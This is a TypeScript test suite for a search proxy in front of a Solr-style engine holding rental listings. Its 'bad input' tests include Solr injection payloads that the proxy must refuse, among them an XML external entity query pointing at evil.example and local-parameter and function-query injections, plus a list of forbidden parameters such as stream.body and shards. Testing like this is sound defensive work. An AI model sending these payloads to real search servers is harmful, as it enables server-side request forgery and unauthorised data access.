import Fastify, { type FastifyInstance } from 'fastify';
import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import { createEmbeddedEngine } from './engine/engine.ts';
import { DEFAULT_RATE_LIMITS } from '../security/rate-limits.ts';
import { registerSecurity } from '../security/register-security.ts';
import { checkSearchParams, MAX_SEARCH_REQUEST_BYTES, parseFormEncoded, registerSearchProxy, searchProxyPaths } from './proxy.ts';
import { SearchUnavailableError } from './solr-backend.ts';
import { SearchRequestError, type SearchBackend, type SearchDocument, type SolrParams, type SolrResponse } from './types.ts';

const DOCS: SearchDocument[] = [
  { id: 'chc1-listings-1001', index_id: 'listings', ss_name: 'Pelican Point Beach House', ss_area: 'Pelican Point', is_bedrooms: 4 },
  { id: 'chc1-listings-1002', index_id: 'listings', ss_name: 'Coral Bay Condo', ss_area: 'Coral Bay', is_bedrooms: 2 },
  { id: 'chc1-listings-1003', index_id: 'listings', ss_name: 'Coral Cottage', ss_area: 'Coral Bay', is_bedrooms: 2 },
];

/**
 * A small stand-in for the engine: it records what reached it and answers in Solr's shape
 * (ids in the requested order, facet counts as a map or a flat list as json.nl asks).
 */
function fakeBackend() {
  const calls: { select: SolrParams[]; suggest: [string, number][] } = { select: [], suggest: [] };
  let failure: Error | null = null;
  const backend: SearchBackend = {
    kind: 'embedded',
    async select(params) {
      calls.select.push(params);
      if (failure) throw failure;
      const one = (name: string) => params.get(name)?.[0];
      const echo: Record<string, string | string[]> = {};
      for (const [name, values] of params) echo[name] = values.length === 1 ? values[0]! : [...values];
      const ids = one('ids')?.split(',');
      const found = ids ? ids.flatMap((id) => DOCS.filter((d) => d.id === id)) : DOCS;
      const start = Number(one('start') ?? 0);
      const rows = Number(one('rows') ?? 10);
      const response: SolrResponse = {
        responseHeader: { status: 0, QTime: 0, params: echo },
        response: { numFound: found.length, start, docs: found.slice(start, start + rows).map((d) => ({ ...d })) },
      };
      if (one('facet') === 'true') {
        const fields: Record<string, Record<string, number> | (string | number)[]> = {};
        for (const field of params.get('facet.field') ?? []) {
          const counts: Record<string, number> = {};
          for (const doc of found) counts[String(doc[field])] = (counts[String(doc[field])] ?? 0) + 1;
          fields[field] = one('json.nl') === 'map' ? counts : Object.entries(counts).flat();
        }
        response.facet_counts = { facet_queries: {}, facet_fields: fields, facet_ranges: {}, facet_dates: {} };
      }
      return response;
    },
    async suggest(prefix, limit) {
      calls.suggest.push([prefix, limit]);
      if (failure) throw failure;
      return Array.from({ length: 25 }, (_, i) => `${prefix} suggestion ${i + 1}`);
    },
    async replaceAll() {},
    async update() {},
    async close() {},
  };
  return { backend, calls, fail: (error: Error | null) => (failure = error) };
}

const fake = fakeBackend();
let app: FastifyInstance;
const FORM = { 'content-type': 'application/x-www-form-urlencoded;charset=UTF-8' };

beforeAll(async () => {
  app = Fastify();
  await registerSecurity(app, { publicOrigin: 'http://localhost:3000', rateLimits: { ...DEFAULT_RATE_LIMITS, search: { max: 3, windowMs: 60_000 } }, rateLimitExempt: ['127.0.0.1'] });
  await registerSearchProxy(app, { backend: fake.backend, url: '/solr/select' });
});

beforeEach(() => {
  fake.calls.select.length = 0;
  fake.calls.suggest.length = 0;
  fake.fail(null);
});

afterAll(async () => {
  await app?.close();
});

const post = (payload: string, url = '/solr/select', headers: Record<string, string> = FORM) => app.inject({ method: 'POST', url, headers, payload });
const messageOf = (response: { json(): unknown }) => (response.json() as { message: string }).message;

describe('the search servlet', () => {
  it('passes a facet request through and answers Solr JSON, facet counts as a map with json.nl=map', async () => {
    const body = new URLSearchParams([
      ['q', '*:*'],
      ['fq', 'index_id:listings'],
      ['fq', '{!tag=area}ss_area:"Coral Bay"'],
      ['facet', 'true'],
      ['facet.field', '{!ex=area}ss_area'],
      ['facet.field', 'is_bedrooms'],
      ['f.ss_area.facet.limit', '50'],
      ['facet.mincount', '1'],
      ['json.nl', 'map'],
      ['rows', '10'],
      ['start', '0'],
      ['sort', 'is_bedrooms desc, ss_name asc'],
      ['fl', 'id'],
      ['wt', 'json'],
      ['_', '1700000000000'],
    ]);
    const response = await post(body.toString());
    expect(response.statusCode, response.body).toBe(200);
    expect(response.headers['content-type']).toBe('application/json; charset=utf-8');
    const params = fake.calls.select[0]!;
    expect(params.get('fq')).toEqual(['index_id:listings', '{!tag=area}ss_area:"Coral Bay"']);
    expect(params.get('facet.field')).toEqual(['{!ex=area}ss_area', 'is_bedrooms']);
    expect(params.has('_')).toBe(false);
    const json = response.json() as SolrResponse;
    expect(json.response.numFound).toBe(3);
    expect(json.facet_counts!.facet_fields.is_bedrooms).toEqual({ 4: 1, 2: 2 });
    expect(json.responseHeader.params.rows).toBe('10');
  });

  it('gives facet counts as Solr’s flat list with json.nl=flat', async () => {
    const response = await post('q=*:*&facet=true&facet.field=ss_area&json.nl=flat');
    expect((response.json() as SolrResponse).facet_counts!.facet_fields.ss_area).toEqual(['Pelican Point', 1, 'Coral Bay', 2]);
  });

  it('fetches full documents by id at {url}/select, in the requested order', async () => {
    const ids = ['chc1-listings-1003', 'chc1-listings-1001', 'chc1-listings-1002'];
    const response = await post(`ids=${ids.join(',')}&fq=index_id:listings`, '/solr/select/select');
    expect(response.statusCode).toBe(200);
    expect((response.json() as SolrResponse).response.docs.map((d) => d.id)).toEqual(ids);
  });

  it('takes the same parameters in a GET query string, repeated ones included', async () => {
    const response = await app.inject({ url: '/solr/select?q=coral&fq=index_id%3Alistings&fq=is_bedrooms%3A2&rows=5&wt=json' });
    expect(response.statusCode).toBe(200);
    expect(fake.calls.select[0]!.get('fq')).toEqual(['index_id:listings', 'is_bedrooms:2']);
  });

  it('reads a text/plain body (fetch with a string body) as form-encoded too', async () => {
    const response = await post('q=coral', '/solr/select', { 'content-type': 'text/plain;charset=UTF-8' });
    expect(response.statusCode).toBe(200);
    expect(fake.calls.select[0]!.get('q')).toEqual(['coral']);
  });
});

describe('bad input', () => {
  it.each(['qt', 'shards', 'stream.body', 'debugQuery', 'echoParams', 'facet.prefix', 'f.ss_area.facet.prefix', 'json.facet', 'hl', 'q.alt', 'f.ss area.facet.limit'])(
    "refuses '%s' with 400 naming the parameter",
    async (name) => {
      const response = await post(`q=*:*&${encodeURIComponent(name)}=x`);
      expect(response.statusCode).toBe(400);
      expect(messageOf(response)).toBe(`Parameter '${name}' is not allowed`);
      expect(fake.calls.select).toHaveLength(0);
    },
  );

  it('caps rows at the configured maximum (100) and start at 100 000', async () => {
    expect((await post('rows=100')).statusCode).toBe(200);
    for (const rows of ['101', '1000000', '-1', 'ten', '1e3', '']) {
      const response = await post(`rows=${rows}`);
      expect(response.statusCode, rows).toBe(400);
      expect(messageOf(response)).toBe('rows must be a whole number from 0 to 100');
    }
    expect((await post('start=100000')).statusCode).toBe(200);
    for (const start of ['100001', '99999999999999999999999', '-5']) {
      const response = await post(`start=${start}`);
      expect(response.statusCode, start).toBe(400);
      expect(messageOf(response)).toBe('start must be a whole number from 0 to 100000');
    }
  });

  it('refuses more ids than rows allow, and ids that cannot be document ids', async () => {
    const many = Array.from({ length: 101 }, (_, i) => `chc1-listings-${1000 + i}`).join(',');
    expect(messageOf(await post(`ids=${many}`))).toBe('ids may list at most 100 ids');
    expect(messageOf(await post(`ids=${encodeURIComponent('a b,c')}`))).toBe('ids must be comma-separated document ids');
  });

  it.each([
    ['q', '{!xmlparser v=\'<!DOCTYPE a SYSTEM "http://evil.example/x.dtd"><a/>\'}'],
    ['q', 'ss_name:x OR _query_:"{!func}rand()"'],
    ['q', '_val_:"recip(1,2,3,4)"'],
    ['fq', '{!frange l=0}is_bedrooms'],
    ['fq', '{!tag=a}{!join from=id to=id}*:*'],
    ['facet.field', '{!func}ss_area'],
    ['facet.field', 'ss_area OR x'],
    ['bq', '{!lucene}ss_area:x'],
    ['defType', 'xmlparser'],
    ['defType', 'func'],
    ['wt', 'xml'],
    ['wt', 'velocity'],
    ['fl', 'id,[explain]'],
    ['fl', 'id,query({!lucene v=x})'],
    ['sort', 'geodist() asc'],
    ['sort', 'ss_name sideways'],
    ['json.nl', 'xml'],
    ['q.op', 'XOR'],
    ['facet.sort', 'random'],
    ['facet', 'maybe'],
  ])('refuses %s=%s with 400 and a message', async (name, value) => {
    const response = await post(new URLSearchParams([[name, value]]).toString());
    expect(response.statusCode).toBe(400);
    expect(messageOf(response)).toContain(name);
    expect(fake.calls.select).toHaveLength(0);
  });

  it('refuses a single-valued parameter given twice', async () => {
    const response = await post('rows=10&rows=1000');
    expect(response.statusCode).toBe(400);
    expect(messageOf(response)).toBe("Parameter 'rows' may be given only once");
  });

  it('refuses a malformed body with 400, a JSON body with 415 and a body over 16 KB with 413', async () => {
    for (const body of ['q=%E0%A4%A', 'q=%zz', 'q=%C3%28']) {
      const response = await post(body);
      expect(response.statusCode, body).toBe(400);
      expect(messageOf(response)).toContain('not valid form-encoded');
    }
    const json = await post('{"q":"*:*"}', '/solr/select', { 'content-type': 'application/json' });
    expect(json.statusCode).toBe(415);
    expect(messageOf(json)).toContain('form-encoded');
    const huge = await post(`q=${'a'.repeat(MAX_SEARCH_REQUEST_BYTES)}`);
    expect(huge.statusCode).toBe(413);
    expect(huge.headers['content-type']).toContain('application/json');
    expect(messageOf(huge)).toBe('The search request is larger than 16 KB');
  });

  it('refuses a very long query with 400, never a hang', async () => {
    const response = await post(`q=${'(a OR '.repeat(500)}`);
    expect(response.statusCode).toBe(400);
    expect(messageOf(response)).toBe("Parameter 'q' is too long (at most 2000 characters)");
  });

  it("answers the engine's SearchRequestError with 400 and its message", async () => {
    fake.fail(new SearchRequestError("Cannot parse 'ss_name:(': unbalanced parentheses"));
    const response = await post('q=ss_name:(');
    expect(response.statusCode).toBe(400);
    expect(messageOf(response)).toBe("Cannot parse 'ss_name:(': unbalanced parentheses");
  });
});

describe('back end failures', () => {
  it('answers 503 with a clear message when the back end cannot be reached', async () => {
    for (const error of [
      Object.assign(new TypeError('fetch failed'), { cause: Object.assign(new Error('connect ECONNREFUSED 127.0.0.1:8983'), { code: 'ECONNREFUSED' }) }),
      new SearchUnavailableError('Solr at http://127.0.0.1:8983/solr/rentals/select did not answer within 5000 ms'),
    ]) {
      fake.fail(error);
      const response = await post('q=*:*');
      expect(response.statusCode).toBe(503);
      expect(response.headers['retry-after']).toBe('5');
      expect(response.json()).toEqual({ statusCode: 503, error: 'Service Unavailable', message: 'The search service is not available just now' });
      const suggest = await app.inject({ url: '/solr/autocomplete?q=coral' });
      expect(suggest.statusCode).toBe(503);
    }
  });

  it('answers an unexpected failure with 500 and no details', async () => {
    fake.fail(new Error('secret internals at /srv/engine.ts:12'));
    const response = await post('q=*:*');
    expect(response.statusCode).toBe(500);
    expect(response.body).not.toContain('secret');
    expect(messageOf(response)).toBe('Something went wrong on our side. Please try again.');
  });
});

describe('autocomplete', () => {
  const suggest = (query: string) => app.inject({ url: `/solr/autocomplete?${query}` });

  it('answers up to 10 suggestions for 2 characters or more', async () => {
    const response = await suggest('q=co');
    expect(response.statusCode).toBe(200);
    expect((response.json() as { suggestions: string[] }).suggestions).toHaveLength(10);
    expect(fake.calls.suggest).toEqual([['co', 10]]);
  });

  it('answers an empty list, without asking the back end, below 2 characters or after a trailing space', async () => {
    for (const query of ['', 'q=', 'q=c', 'q=%20c', 'q=coral%20', 'q=coral+']) {
      const response = await suggest(query);
      expect(response.statusCode, query).toBe(200);
      expect(response.json()).toEqual({ suggestions: [] });
    }
    expect(fake.calls.suggest).toHaveLength(0);
  });

  it('honours a smaller limit and holds a larger one at 10', async () => {
    expect((await suggest('q=coral&limit=3')).json()).toEqual({ suggestions: ['coral suggestion 1', 'coral suggestion 2', 'coral suggestion 3'] });
    expect(((await suggest('q=coral&limit=500')).json() as { suggestions: string[] }).suggestions).toHaveLength(10);
    expect(fake.calls.suggest.map(([, limit]) => limit)).toEqual([3, 10]);
  });

  it('refuses a bad limit, an unknown parameter and an over-long q', async () => {
    expect((await suggest('q=coral&limit=0')).statusCode).toBe(400);
    expect((await suggest('q=coral&limit=ten')).statusCode).toBe(400);
    expect(messageOf(await suggest('q=coral&fq=x'))).toBe("Parameter 'fq' is not allowed");
    expect((await suggest(`q=${'a'.repeat(101)}`)).statusCode).toBe(400);
  });
});

describe('rate limit', () => {
  it('limits each client, across the select and autocomplete routes, and leaves exempt addresses alone', async () => {
    const from = (remoteAddress: string) => app.inject({ method: 'POST', url: '/solr/select', headers: FORM, payload: 'q=*:*', remoteAddress });
    for (let i = 0; i < 2; i++) expect((await from('192.0.2.7')).statusCode).toBe(200);
    expect((await app.inject({ url: '/solr/autocomplete?q=co', remoteAddress: '192.0.2.7' })).statusCode).toBe(200);
    const limited = await from('192.0.2.7');
    expect(limited.statusCode).toBe(429);
    expect(limited.headers['content-type']).toContain('application/json');
    expect(Number(limited.headers['retry-after'])).toBeGreaterThan(0);
    expect(limited.json().message).toMatch(/^Too many requests from your address \(at most 3 per minute\)\. Please try again in \d+ s\.$/);
    expect((await from('192.0.2.8')).statusCode).toBe(200);
    for (let i = 0; i < 10; i++) expect((await from('127.0.0.1')).statusCode).toBe(200);
  });
});

describe('helpers', () => {
  it('derives the proxy paths from the configured url', () => {
    expect(searchProxyPaths('/solr/select')).toEqual({ select: ['/solr/select', '/solr/select/select'], autocomplete: '/solr/autocomplete' });
    expect(searchProxyPaths('/search-proxy/')).toEqual({ select: ['/search-proxy', '/search-proxy/select'], autocomplete: '/search-proxy/autocomplete' });
  });

  it('parses repeated names and + as a space, and drops the cache-buster', () => {
    const params = parseFormEncoded('fq=a%3A1&fq=b+2&q=x&_=123&flag');
    expect([...params]).toEqual([
      ['fq', ['a:1', 'b 2']],
      ['q', ['x']],
      ['_', ['123']],
      ['flag', ['']],
    ]);
    expect(() => checkSearchParams(params)).toThrow("Parameter 'flag' is not allowed");
    params.delete('flag');
    expect([...checkSearchParams(params).keys()]).toEqual(['fq', 'q']);
  });
});

describe('with the embedded engine', () => {
  const AREAS = ['Coral Bay', 'Pelican Point', 'Sandpiper Shores'];
  const TYPES = ['Condo', 'House', 'Cottage'];
  const documents: SearchDocument[] = Array.from({ length: 60 }, (_, i) => ({
    id: `chc1-listings-${1001 + i}`,
    index_id: 'listings',
    entity_id: 1001 + i,
    ss_vrfusion_site_property_code: `CHC-${1001 + i}`,
    ss_name: `${AREAS[i % 3]} ${TYPES[i % 3 === 0 ? 0 : (i >> 1) % 3]} ${i + 1}`,
    ts_name: `${AREAS[i % 3]} ${TYPES[i % 3 === 0 ? 0 : (i >> 1) % 3]} ${i + 1}`,
    ss_area: AREAS[i % 3]!,
    ss_type: TYPES[i % 3 === 0 ? 0 : (i >> 1) % 3]!,
    is_bedrooms: 1 + (i % 5),
    sm_amenities: i % 2 === 0 ? ['Wi-Fi', 'Private pool'] : ['Wi-Fi'],
    fs_rating: 3 + (i % 3) / 2,
    tm_summary: 'A bright cottage by the beach with a view of the bay.',
  }));
  let engineApp: FastifyInstance;
  const form = (pairs: [string, string][]) =>
    engineApp.inject({ method: 'POST', url: '/solr/select', headers: FORM, payload: new URLSearchParams(pairs).toString() });

  beforeAll(async () => {
    const engine = createEmbeddedEngine();
    await engine.replaceAll(documents);
    engineApp = Fastify();
    await registerSearchProxy(engineApp, { backend: engine, url: '/solr/select' });
  });

  afterAll(async () => {
    await engineApp?.close();
  });

  it('answers a multi-select facet request (tagged filter, excluded facet) with counts as a map', async () => {
    const response = await form([
      ['q', '*:*'],
      ['fq', 'index_id:listings'],
      ['fq', '{!tag=area}ss_area:"Coral Bay"'],
      ['facet', 'true'],
      ['facet.field', '{!ex=area}ss_area'],
      ['facet.field', 'is_bedrooms'],
      ['facet.mincount', '1'],
      ['json.nl', 'map'],
      ['rows', '5'],
      ['start', '0'],
      ['sort', 'entity_id desc'],
      ['fl', 'id'],
      ['wt', 'json'],
    ]);
    expect(response.statusCode, response.body).toBe(200);
    const json = response.json() as SolrResponse;
    expect(json.response.numFound).toBe(20);
    expect(json.response.docs).toHaveLength(5);
    expect(json.responseHeader.params.rows).toBe('5');
    // the area facet ignores its own filter, so every town keeps its count
    expect(json.facet_counts!.facet_fields.ss_area).toEqual({ 'Coral Bay': 20, 'Pelican Point': 20, 'Sandpiper Shores': 20 });
    const bedrooms = json.facet_counts!.facet_fields.is_bedrooms as Record<string, number>;
    expect(Object.values(bedrooms).reduce((a, b) => a + b, 0)).toBe(20);
  });

  it('gives Solr’s flat list with json.nl=flat', async () => {
    const response = await form([['facet', 'true'], ['facet.field', 'ss_area'], ['json.nl', 'flat'], ['rows', '0']]);
    expect((response.json() as SolrResponse).facet_counts!.facet_fields.ss_area).toEqual(['Coral Bay', 20, 'Pelican Point', 20, 'Sandpiper Shores', 20]);
  });

  it('fetches full documents by id in the requested order', async () => {
    const ids = ['chc1-listings-1042', 'chc1-listings-1003', 'chc1-listings-1017'];
    const response = await engineApp.inject({ method: 'POST', url: '/solr/select/select', headers: FORM, payload: `ids=${ids.join(',')}` });
    const docs = (response.json() as SolrResponse).response.docs;
    expect(docs.map((d) => d.id)).toEqual(ids);
    expect(docs[0]).toMatchObject({ ss_vrfusion_site_property_code: 'CHC-1042', index_id: 'listings' });
  });

  it('answers bad queries with 400 and a message, never 500', async () => {
    for (const [name, value] of [
      ['q', 'ss_name:(Coral'],
      ['q', '"unbalanced'],
      ['fq', 'is_bedrooms:[two TO four]'],
      ['sort', 'tm_summary asc'],
    ] as [string, string][]) {
      const response = await form([[name, value]]);
      expect(response.statusCode, `${name}=${value}: ${response.body}`).toBe(400);
      expect(typeof (response.json() as { message: string }).message).toBe('string');
    }
  });

  it('suggests from 2 characters, at most 10', async () => {
    const response = await engineApp.inject({ url: '/solr/autocomplete?q=co&limit=50' });
    expect(response.statusCode).toBe(200);
    const { suggestions } = response.json() as { suggestions: string[] };
    expect(suggestions.length).toBeGreaterThan(0);
    expect(suggestions.length).toBeLessThanOrEqual(10);
    for (const suggestion of suggestions) expect(suggestion.toLowerCase()).toMatch(/(^|\s)co/);
  });
});
